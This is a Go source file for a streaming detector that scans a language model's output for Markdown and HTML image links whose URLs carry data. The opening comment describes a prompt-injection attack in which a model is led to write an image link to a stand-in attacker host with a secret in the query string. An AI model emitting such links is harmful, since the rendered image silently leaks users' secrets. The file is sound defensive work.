package inject

import (
	"errors"
	"strconv"
	"strings"
)

// Images in model output. An injection that makes the model write
// ![x](https://evil.example/p.png?d=<secret>) leaks the secret when the
// chat UI renders the answer: the image loads without a click, and no
// tool call is made. ImageWatch reads model text as it is written, in
// pieces, and finds the image links whose URL carries data:
//
//   - Markdown inline images ![alt](url) (<url> and titles too),
//     reference images ![alt][ref], ![alt][] and ![ref] together with the
//     [ref]: url definitions they use, in either order, and HTML <img>
//     (src and srcset);
//   - plain links [t](url) are not judged: they need a click;
//   - a construct is open from its first byte ("![", "[", "<img") until
//     it closes (the URL's end, the "]" a reference ends with, the ">" of
//     the tag, a blank line, or the end of the text); Feed reports an
//     open construct so the caller can hold the text from there on;
//   - code spans and blocks are read like any text: a renderer's idea of
//     where code ends may not be ours, and an example in code is judged
//     only when its URL carries data.
//
// State is bounded: one open construct per item (at most Limit bytes,
// past which Feed fails with ErrImageLinkLimit), a few bytes of tail, at
// most maxImageItems items with either, and at most maxImageLabels
// reference labels.

// ImageLinkLimit is the default bound on one open construct's text.
const ImageLinkLimit = 4 << 10

// maxImageLabels bounds the reference labels a watch remembers.
const maxImageLabels = 256

// maxImageItems bounds the items with a tail or an open construct.
const maxImageItems = 4096

// maxLabel is CommonMark's bound on a link label.
const maxLabel = 999

// ErrImageLinkLimit: an image construct or the labels grew past the
// watch's bounds before it could be judged.
var ErrImageLinkLimit = errors.New("image link over the inspection limit")

// ImageFinding is an image link whose URL carries data: the finding, with
// offsets into the item's text, and the construct's text.
type ImageFinding struct {
	Finding
	Link string
}

// ImageWatch reads the text items of one model answer. The zero value is
// ready; set Limit before the first Feed.
type ImageWatch struct {
	// Limit bounds one open construct (0: ImageLinkLimit).
	Limit  int
	items  map[int64]*imageItem
	labels map[string]uint8
	open   int // items with an open construct
}

type imageItem struct {
	buf  []byte // the open construct, or the tail that may start one
	pos  int    // offset of buf[0] in the item's text
	open bool
}

const (
	labelImage uint8 = 1 << iota // an image refers to the label
	labelData                    // a definition of the label carries data
)

// Open reports whether any item has an open construct.
func (w *ImageWatch) Open() bool { return w.open > 0 }

// Feed reads the next piece of an item's text. open says whether a
// construct is still open after it (the text from its start must be
// held); found lists the images that closed in it and carry data.
func (w *ImageWatch) Feed(item int64, text string) (open bool, found []ImageFinding, err error) {
	if w.items == nil {
		w.items = map[int64]*imageItem{}
	}
	it := w.items[item]
	if it == nil {
		if len(w.items) >= maxImageItems {
			return false, nil, ErrImageLinkLimit
		}
		it = &imageItem{}
		w.items[item] = it
	}
	found, err = w.scan(it, text, false)
	if len(it.buf) == 0 && !it.open && it.pos == 0 {
		delete(w.items, item) // nothing to remember
	}
	return it.open, found, err
}

// End closes an item: an open construct is judged as the text left it.
func (w *ImageWatch) End(item int64) ([]ImageFinding, error) {
	it := w.items[item]
	if it == nil {
		return nil, nil
	}
	delete(w.items, item)
	return w.scan(it, "", true)
}

// EndAll closes every item, in key order.
func (w *ImageWatch) EndAll() ([]ImageFinding, error) {
	keys := make([]int64, 0, len(w.items))
	for k := range w.items {
		keys = append(keys, k)
	}
	for i := 1; i < len(keys); i++ {
		for j := i; j > 0 && keys[j] < keys[j-1]; j-- {
			keys[j], keys[j-1] = keys[j-1], keys[j]
		}
	}
	var all []ImageFinding
	for _, k := range keys {
		fs, err := w.End(k)
		all = append(all, fs...)
		if err != nil {
			return all, err
		}
	}
	return all, nil
}

// Whole judges a complete text (a non-streamed answer's string, or a
// stream's final copy of one) with the watch's labels.
func (w *ImageWatch) Whole(text string) ([]ImageFinding, error) {
	it := &imageItem{}
	found, err := w.scan(it, text, false)
	if err != nil {
		return found, err
	}
	more, err := w.scan(it, "", true)
	return append(found, more...), err
}

func (w *ImageWatch) limit() int {
	if w.Limit > 0 {
		return w.Limit
	}
	return ImageLinkLimit
}

// scan reads it.buf+text from the start: constructs that close are
// judged, the tail or the open construct stays in it.buf.
func (w *ImageWatch) scan(it *imageItem, text string, final bool) ([]ImageFinding, error) {
	if it.open {
		w.open--
	}
	found, err := w.scanText(it, text, final)
	if it.open {
		w.open++
	}
	return found, err
}

func (w *ImageWatch) scanText(it *imageItem, text string, final bool) ([]ImageFinding, error) {
	s := text
	if len(it.buf) > 0 {
		s = string(it.buf) + text
	}
	base := it.pos
	var found []ImageFinding
	i := 0
	for i < len(s) {
		k, more := constructAt(s, i)
		if more && !final {
			break
		}
		if k == cNone {
			i++
			continue
		}
		end, urls, label := readConstruct(s[i:], k, final)
		if end < 0 {
			if len(s)-i > w.limit() {
				it.buf, it.pos, it.open = nil, base+len(s), false
				return found, ErrImageLinkLimit
			}
			break
		}
		link := s[i : i+end]
		hit, err := w.judge(k, urls, label)
		if err != nil {
			return found, err
		}
		if hit.Rule != "" {
			hit.Start, hit.End = base+i, base+i+end
			found = append(found, ImageFinding{Finding: hit, Link: link})
		}
		// Constructs nest (an image in a link's text, a bracket in an
		// image's alt): read on from just inside this one.
		i++
	}
	if i >= len(s) {
		it.buf, it.pos, it.open = it.buf[:0], base+len(s), false
		return found, nil
	}
	k, _ := constructAt(s, i)
	it.buf = append(it.buf[:0], s[i:]...)
	it.pos = base + i
	it.open = k != cNone
	return found, nil
}

// judge scores what one closed construct loads.
func (w *ImageWatch) judge(k construct, urls []string, label string) (Finding, error) {
	var best float32
	for _, u := range urls {
		best = max(best, imageURLScore(u))
	}
	rule := "exfiltration.markdown_image"
	if k == cHTML {
		rule = "exfiltration.html_image"
	}
	if label != "" {
		if w.labels == nil {
			w.labels = map[string]uint8{}
		}
		bit := labelImage
		if k == cBracket {
			bit = 0
			if best > 0 {
				bit = labelData
			}
		}
		if bit != 0 {
			old, seen := w.labels[label]
			if !seen && len(w.labels) >= maxImageLabels {
				return Finding{}, ErrImageLinkLimit
			}
			w.labels[label] = old | bit
		}
		if k == cBracket {
			// A definition loads only when an image refers to it.
			if w.labels[label]&labelImage == 0 {
				best = 0
			}
		} else if w.labels[label]&labelData != 0 {
			best = max(best, 0.9)
		}
	}
	if best == 0 {
		return Finding{}, nil
	}
	return Finding{Rule: rule, Family: "exfiltration", Score: best}, nil
}

type construct uint8

const (
	cNone    construct = iota
	cImage             // "![": a Markdown image
	cBracket           // "[": a reference definition, perhaps
	cHTML              // "<img"
)

// constructAt says which construct starts at s[i]; more: s ends before
// that can be told (the bytes from i are the tail to keep).
func constructAt(s string, i int) (k construct, more bool) {
	switch s[i] {
	case '!':
		if i+1 == len(s) {
			return cNone, true
		}
		if s[i+1] == '[' {
			return cImage, false
		}
	case '[':
		return cBracket, false
	case '<':
		const tag = "<img"
		n := min(len(s)-i, len(tag))
		if !strings.EqualFold(s[i:i+n], tag[:n]) {
			return cNone, false
		}
		if i+len(tag) >= len(s) {
			return cNone, true
		}
		switch s[i+len(tag)] {
		case ' ', '\t', '\n', '\r', '\f', '/', '>':
			return cHTML, false
		}
	}
	return cNone, false
}

// readConstruct reads the construct of kind k that s starts with. end is
// where it closes (-1: s ends first and final is false); urls are what
// it loads, or names (a definition's destination); label is the
// reference an image uses or a definition defines.
func readConstruct(s string, k construct, final bool) (end int, urls []string, label string) {
	switch k {
	case cHTML:
		return readImgTag(s, final)
	case cBracket:
		return readDefinition(s, final)
	}
	j, closed := closeBracket(s, 1)
	switch {
	case j < 0 && !final:
		return -1, nil, ""
	case j < 0:
		return len(s), nil, "" // the text ends: no image
	case !closed:
		return j, nil, "" // a blank line: no image
	}
	alt := s[2:j]
	urls = innerDests(alt)
	if j+1 == len(s) {
		if !final {
			return -1, nil, ""
		}
		return j + 1, urls, normLabel(alt)
	}
	switch s[j+1] {
	case '(':
		d, e, ok := readDest(s, j+2, final)
		if !ok {
			return -1, nil, ""
		}
		return e, append(urls, d), ""
	case '[':
		l, closed := closeBracket(s, j+1)
		switch {
		case l < 0 && !final:
			return -1, nil, ""
		case l < 0 || !closed:
			// The second bracket never closes: a shortcut reference.
			return j + 1, urls, normLabel(alt)
		case l == j+2: // ![alt][]
			return l + 1, urls, normLabel(alt)
		}
		return l + 1, urls, normLabel(s[j+2 : l])
	}
	return j + 1, urls, normLabel(alt)
}

// closeBracket finds the "]" that closes the "[" at s[open], skipping
// escapes and nested brackets: at is its offset (closed), or the offset
// of a line break a blank line follows (no construct), or -1 when s ends
// first.
func closeBracket(s string, open int) (at int, closed bool) {
	depth := 0
	for i := open; i < len(s); i++ {
		switch s[i] {
		case '\\':
			i++
		case '[':
			depth++
		case ']':
			depth--
			if depth == 0 {
				return i, true
			}
		case '\n':
			if blankAfter(s, i) {
				return i, false
			}
		}
	}
	return -1, false
}

// blankAfter reports whether the line after the newline at s[i] is blank
// and complete (a paragraph ends there).
func blankAfter(s string, i int) bool {
	for j := i + 1; j < len(s); j++ {
		switch s[j] {
		case ' ', '\t', '\r':
		case '\n':
			return true
		default:
			return false
		}
	}
	return false
}

// readDest reads a link destination from s[i] (after "(" or a
// definition's ":"): spaces and at most one line break, then "<url>" or
// a run without spaces in which parentheses balance. e is where the
// destination ends; ok is false when s ends first (and !final).
func readDest(s string, i int, final bool) (dest string, e int, ok bool) {
	nl := false
	for i < len(s) && (s[i] == ' ' || s[i] == '\t' || s[i] == '\r' || s[i] == '\n' && !nl) {
		nl = nl || s[i] == '\n'
		i++
	}
	if i == len(s) {
		return "", len(s), final
	}
	start := i
	if s[i] == '<' {
		for j := i + 1; j < len(s); j++ {
			switch s[j] {
			case '\\':
				j++
			case '>':
				return s[i+1 : j], j + 1, true
			case '\n':
				return s[i+1 : j], j, true
			}
		}
		return s[i+1:], len(s), final
	}
	depth := 0
	for j := i; j < len(s); j++ {
		switch c := s[j]; {
		case c == '\\':
			j++
		case c == '(':
			depth++
		case c == ')' && depth == 0, c <= ' ':
			return s[start:j], j, true
		case c == ')':
			depth--
		}
	}
	return s[start:], len(s), final
}

// innerDests are the destinations after each "](" inside an image's alt
// text: a renderer that reads escapes or nesting another way than ours
// could load one of them.
func innerDests(alt string) []string {
	var out []string
	for off := 0; ; {
		i := strings.Index(alt[off:], "](")
		if i < 0 {
			return out
		}
		i += off
		d, _, _ := readDest(alt, i+2, true)
		out = append(out, d)
		off = i + 2
	}
}

// readDefinition reads "[label]: url". It closes as no definition when
// the label is not one (nested "[", too long, a blank line) or what
// follows its "]" is not ":".
func readDefinition(s string, final bool) (int, []string, string) {
	for i := 1; i < len(s); i++ {
		switch s[i] {
		case '\\':
			i++
		case '[':
			return i, nil, ""
		case '\n':
			if blankAfter(s, i) {
				return i, nil, ""
			}
		case ']':
			if i+1 == len(s) {
				if final {
					return i + 1, nil, ""
				}
				return -1, nil, ""
			}
			if s[i+1] != ':' || i == 1 {
				return i + 1, nil, ""
			}
			d, e, ok := readDest(s, i+2, final)
			if !ok {
				return -1, nil, ""
			}
			return max(e, i+2), []string{d}, normLabel(s[1:i])
		}
		if i > maxLabel {
			return i, nil, ""
		}
	}
	if final {
		return len(s), nil, ""
	}
	return -1, nil, ""
}

// readImgTag reads "<img ...>" up to the ">" outside quotes; what it
// loads is its src and every URL of its srcset.
func readImgTag(s string, final bool) (int, []string, string) {
	var q byte
	end := -1
	for i := 4; i < len(s) && end < 0; i++ {
		switch c := s[i]; {
		case q != 0:
			if c == q {
				q = 0
			}
		case c == '"' || c == '\'':
			q = c
		case c == '>':
			end = i + 1
		}
	}
	if end < 0 {
		if !final {
			return -1, nil, ""
		}
		end = len(s)
	}
	var urls []string
	tag := s[4:end]
	for i := 0; i < len(tag); {
		for i < len(tag) && (tag[i] <= ' ' || tag[i] == '/') {
			i++
		}
		n := i
		for i < len(tag) && tag[i] > ' ' && tag[i] != '=' && tag[i] != '>' && tag[i] != '/' {
			i++
		}
		name := tag[n:i]
		for i < len(tag) && tag[i] <= ' ' {
			i++
		}
		if i >= len(tag) || tag[i] != '=' {
			if i == n {
				i++
			}
			continue
		}
		i++
		for i < len(tag) && tag[i] <= ' ' {
			i++
		}
		var val string
		if i < len(tag) && (tag[i] == '"' || tag[i] == '\'') {
			e := strings.IndexByte(tag[i+1:], tag[i])
			if e < 0 {
				e = len(tag) - i - 1
			}
			val = tag[i+1 : i+1+e]
			i += e + 2
		} else {
			v := i
			for i < len(tag) && tag[i] > ' ' && tag[i] != '>' {
				i++
			}
			val = tag[v:i]
		}
		switch strings.ToLower(name) {
		case "src":
			urls = append(urls, val)
		case "srcset":
			for _, c := range strings.Split(val, ",") {
				if f := strings.Fields(c); len(f) > 0 {
					urls = append(urls, f[0])
				}
			}
		}
	}
	return end, urls, ""
}

// normLabel folds a reference label as renderers match it: case and runs
// of white space.
func normLabel(l string) string {
	return strings.Join(strings.Fields(lowerASCII(l)), " ")
}

// imageURLScore scores what a rendered image would fetch: the URL as a
// browser reads it (character references and escapes decoded, tabs and
// line breaks dropped, outer spaces trimmed), by exfilURLScore with the
// data a model fills in counted.
func imageURLScore(raw string) float32 {
	return exfilURLScore(browserURL(raw), true, true)
}

// browserURL decodes what a renderer decodes in a destination or
// attribute before the browser sees it.
func browserURL(raw string) string {
	if !strings.ContainsAny(raw, "&\\\t\n\r") {
		return strings.TrimSpace(raw)
	}
	b := make([]byte, 0, len(raw))
	for i := 0; i < len(raw); i++ {
		c := raw[i]
		switch {
		case c == '\t' || c == '\n' || c == '\r':
			continue
		case c == '\\' && i+1 < len(raw) && isASCIIPunct(raw[i+1]):
			i++
			b = append(b, raw[i])
			continue
		case c == '&':
			if r, n := charRef(raw[i:]); n > 0 {
				b = append(b, r...)
				i += n - 1
				continue
			}
		}
		b = append(b, c)
	}
	return strings.TrimSpace(string(b))
}

func isASCIIPunct(c byte) bool {
	return c > ' ' && c < 0x7f && !(c >= '0' && c <= '9' || c|0x20 >= 'a' && c|0x20 <= 'z')
}

// namedRefs are the character references that spell URL syntax.
var namedRefs = map[string]string{
	"amp": "&", "colon": ":", "sol": "/", "quest": "?", "equals": "=", "num": "#", "period": ".",
	"lt": "<", "gt": ">", "lbrace": "{", "rbrace": "}", "lcub": "{", "rcub": "}", "dollar": "$",
	"percnt": "%", "commat": "@", "plus": "+", "lowbar": "_", "hyphen": "-", "dash": "-",
}

// charRef decodes the character reference s starts with ("&#58;",
// "&#x3a;", "&colon;"): its text and length, or n == 0.
func charRef(s string) (string, int) {
	semi := strings.IndexByte(s, ';')
	if semi < 2 || semi > 12 {
		return "", 0
	}
	body := s[1:semi]
	if body[0] == '#' {
		base, digits := 10, body[1:]
		if len(digits) > 0 && digits[0]|0x20 == 'x' {
			base, digits = 16, digits[1:]
		}
		n, err := strconv.ParseUint(digits, base, 21)
		if err != nil || n == 0 || n > 0x10ffff {
			return "", 0
		}
		return string(rune(n)), semi + 1
	}
	if r, ok := namedRefs[strings.ToLower(body)]; ok {
		return r, semi + 1
	}
	return "", 0
}
